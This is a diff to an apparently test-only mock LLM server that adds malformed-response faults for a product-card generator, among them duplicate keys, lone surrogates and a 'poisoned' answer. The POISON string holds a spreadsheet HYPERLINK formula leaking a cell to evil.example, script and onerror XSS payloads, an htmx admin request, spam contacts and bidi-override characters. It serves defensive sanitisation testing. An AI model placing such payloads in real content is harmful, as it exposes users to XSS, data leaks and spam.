@@ -177,6 +177,39 @@ async def _nan(e: Exchange) -> web.StreamResponse:
     return await _said(e, '{"value": NaN, "confidence": Infinity}')
 
 
+async def _duplicate_keys(e: Exchange) -> web.StreamResponse:
+    """Every key twice: which of the two is meant?"""
+    return await _said(e, e.content.rstrip().removesuffix("}") + "," + e.content.lstrip().removeprefix("{"))
+
+
+async def _surrogate(e: Exchange) -> web.StreamResponse:
+    """Half of a character at the head of every text: no database stores it."""
+    return await _said(e, e.content.replace(': "', ': "\\ud83d'))
+
+
+POISON = (
+    '=HYPERLINK("http://evil.example/?q="&A1) <script>alert(1)</script><img src=x onerror=alert(1)>'
+    '<a href="http://evil.example" hx-get="/admin/">подробнее</a> Звоните +7 999 123-45-67, t.me/evil_shop, '
+    "shop@evil.example \u202eкорт\u202c\U000e0041 "
+)
+
+
+async def _poisoned(e: Exchange) -> web.StreamResponse:
+    """A right answer by its schema, with a formula, scripts, links and contacts in every text of the card."""
+    texts = ("title", "description", "short_description", "seo_title", "seo_description")
+    try:
+        value = json.loads(e.content)
+    except ValueError:
+        return await _said(e, POISON + e.content)
+    value |= {name: POISON + value[name] for name in texts if isinstance(value.get(name), str)}
+    value |= {
+        name: [POISON + word for word in value[name]]
+        for name in ("keywords", "key_benefits")
+        if isinstance(value.get(name), list)
+    }
+    return await _said(e, json.dumps(value, ensure_ascii=False))
+
+
 async def _wrong_type(e: Exchange) -> web.StreamResponse:
     return await _said(e, '{"title": 17, "description": ["a"], "category_id": "none", "confidence": "high"}')
 
@@ -347,6 +380,9 @@ FAULTS: dict[str, Callable[[Exchange], Awaitable[web.StreamResponse]]] = {
     "length": _length,
     "two_json": _two_json,
     "nan": _nan,
+    "duplicate_keys": _duplicate_keys,
+    "surrogate": _surrogate,
+    "poisoned": _poisoned,
     "wrong_type": _wrong_type,
     "wrong_envelope": _wrong_envelope,
     "prose": _prose,
@@ -375,6 +411,6 @@ FAULTS: dict[str, Callable[[Exchange], Awaitable[web.StreamResponse]]] = {
 
 # Answers of these carry a usage and are paid for, though they may be useless.
 BILLED = {
-    "truncated_json", "length", "two_json", "nan", "wrong_type", "prose", "too_long", "null_content", "refusal", "schema_unsupported",
+    "truncated_json", "length", "two_json", "nan", "duplicate_keys", "surrogate", "poisoned", "wrong_type", "prose", "too_long", "null_content", "refusal", "schema_unsupported",
     "no_formats", "fenced", "almost_json",
 }  # fmt: skip
